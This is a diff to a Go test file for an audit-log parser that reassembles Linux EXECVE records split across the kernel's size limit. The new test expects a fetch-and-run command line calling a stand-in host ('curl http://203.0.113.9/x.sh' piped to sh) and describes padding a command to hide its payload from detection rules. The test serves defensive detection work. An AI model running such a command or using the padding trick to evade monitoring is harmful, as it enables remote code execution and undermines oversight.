@@ -204,9 +204,41 @@ func TestEnrichedSplit(t *testing.T) {
 
 func TestExecveSplitArgs(t *testing.T) {
 	body := `type=EXECVE msg=audit(1.000:1): argc=3 a0="php" a1_len=10 a1[0]=6162 a1[1]=6364 a2="x"`
-	args, err := execveArgs(body)
+	args, err := execveArgs([]string{body})
 	if err != nil || !reflect.DeepEqual(args, []string{"php", "abcd", "x"}) {
 		t.Errorf("args=%q err=%v", args, err)
+	}
+}
+
+// The kernel writes an exec's arguments in EXECVE records of at most 7.5 KB
+// each: a command padded past that (here 5,000 spaces, then the payload)
+// was cut to its first record, and its payload hidden from every rule.
+// Captured from the kernel by the live input (testdata/SOURCES.md).
+func TestExecveContinued(t *testing.T) {
+	groups, _ := joinFile(t, "testdata/execve-split.log")
+	want := []struct {
+		argc int
+		tail string
+	}{
+		{3, "; echo curl http://203.0.113.9/x.sh PIPE sh"},
+		{1203, " 1199 1200 tail-arg"},
+	}
+	if len(groups) != len(want) {
+		t.Fatalf("%d events, want %d", len(groups), len(want))
+	}
+	for i, g := range groups {
+		d, err := Map(g.Lines)
+		if err != nil {
+			t.Fatalf("event %d: %v", i+1, err)
+		}
+		if n := strings.Count(strings.Join(g.Lines, "\n"), "type=EXECVE"); n < 2 {
+			t.Fatalf("event %d has %d EXECVE records: not the case tested", i+1, n)
+		}
+		args, _ := get(d, "process", "args").([]string)
+		cl, _ := get(d, "process", "command_line").(string)
+		if len(args) != want[i].argc || !strings.HasSuffix(cl, want[i].tail) {
+			t.Errorf("event %d: %d args, command line ending %q; want %d args, ending %q", i+1, len(args), cl[max(0, len(cl)-50):], want[i].argc, want[i].tail)
+		}
 	}
 }
 
